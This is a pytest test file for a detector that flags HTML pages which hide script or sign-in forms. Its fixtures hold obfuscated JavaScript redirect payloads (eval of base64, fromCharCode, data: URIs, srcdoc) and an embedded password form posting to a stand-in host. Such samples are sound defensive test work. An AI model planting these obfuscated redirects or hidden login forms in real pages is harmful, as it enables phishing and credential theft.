from base64 import b64encode
from urllib.parse import quote

import pytest

from gifthorse.inspect.detectors import html_hidden_page as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, severities

HIGH, MEDIUM = Severity.HIGH, Severity.MEDIUM
AWAY = b64encode(b"document.location='https://files.example.net/login';").decode()
SIGN_IN = b"<form action='https://files.example.net'><input name=u><input type='password'></form>"
CHART = b64encode(b"<html><body><div id=map></div><script>draw([1,2,3])</script></body></html>").decode()


def page(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>Plan</title></head>{body}</html>".encode()


@pytest.mark.parametrize(
    "body",
    [
        f"<body onload=eval(atob('{AWAY}'))>",
        f"<img src=x onerror=\"eval(window.atob('{AWAY}'))\">",
        f"<script>window['ev'+'al'](atob(`{AWAY}`))</script>",
        f"<script>var p='{AWAY}';new Function(atob(p))();</script>",
        f"<script>const x=`{AWAY}`;eval(decodeURIComponent(escape(window.atob(x))))</script>",
        f"<script>(0,eval)(atob('{AWAY}'))</script>",
        f"<script src='data:text/javascript;base64,{AWAY}'></script>",
        f"<script>new Function(atob('{AWAY}'))()</script>",
        f"<script>setTimeout( atob('{AWAY}') ,1)</script>",
        f"<script>document.body.innerHTML = atob('{AWAY}')</script>",
        f"<iframe srcdoc=\"&lt;script&gt;eval(atob('{AWAY}'))&lt;/script&gt;\"></iframe>",
        f"<meta http-equiv='refresh' content='0;url=data:text/html;base64,{CHART}'>",
        f"<script>location.href='data:text/html;base64,{CHART}'</script>",
        "<script>eval(String.fromCharCode("
        + ",".join(str(ord(letter)) for letter in "location='https://files.example.net'")
        + "))</script>",
    ],
)
def test_a_page_that_decodes_and_runs_or_leads_away_is_medium(body: str) -> None:
    assert severities(detector, page(body), "a.html") == [MEDIUM]


@pytest.mark.parametrize(
    "body",
    [
        f'<iframe src="data:text/html;base64,{b64encode(SIGN_IN).decode()}"></iframe>',
        f"<embed src='data:text/html;charset=utf-8;base64,{b64encode(SIGN_IN).decode()}'>",
        f"<object data='data:text/html,{quote(SIGN_IN)}'></object>",
        f"<script>document.write(unescape('{quote(SIGN_IN, safe='')}'))</script>",
        f"<iframe srcdoc='{SIGN_IN.decode().replace(chr(39), '&quot;')}'></iframe>",
    ],
)
def test_a_hidden_page_that_asks_for_a_password_is_high(body: str) -> None:
    assert severities(detector, page(body), "a.html") == [HIGH]


@pytest.mark.parametrize(
    "body",
    [
        f"<iframe src='data:text/html;charset=utf-8;base64,{CHART}'></iframe>",
        f"<iframe srcdoc='{SIGN_IN.decode().replace('password', 'text').replace(chr(39), '&quot;')}'></iframe>",
        "<script>document.write(unescape(\"%3Cscript src='https://stats.example.org/ga.js' type='text/javascript'%3E%3C/script%3E\"))</script>",
        f"<script>var p='{CHART}';document.write(atob(p));</script>",
        f"<script>var note='{AWAY}'; show(note)</script>",
        f"<script src='data:text/javascript;base64,{b64encode(b'draw([1,2,3]);').decode()}'></script>",
        "<script>var logo = atob('iVBORw0KGgoAAAANSUhEUg==')</script>",
        "<p>eval(atob(text)) runs what is coded</p>",
        "<script>var names=[68,69,70,71,72,73,74,75,76,77,78,79,80,81,82,83,84,85,86,87,88,89];String.fromCharCode(names[0]);eval('1')</script>",
        "<form action='/login'><input type=password></form>",
        "<iframe src='data:text/html;base64,%%%'></iframe>",
    ],
)
def test_what_hides_nothing_or_shows_a_chart_is_silent(body: str) -> None:
    assert severities(detector, page(body), "a.html") == []


def test_the_finding_shows_what_was_decoded_and_where() -> None:
    body = page(f"<script>eval(atob('{AWAY}'))</script>")
    (finding,) = findings_of(detector, body, "a.html")
    assert finding.detail is not None
    assert "files.example.net/login" in finding.detail.in_english()
    assert finding.evidence[0].offset == body.index(b"eval")


def test_only_the_gravest_hidden_page_is_told() -> None:
    body = f"<script>eval(atob('{AWAY}'))</script><iframe src='data:text/html;base64,{b64encode(SIGN_IN).decode()}'></iframe>"
    assert severities(detector, page(body), "a.html") == [HIGH]
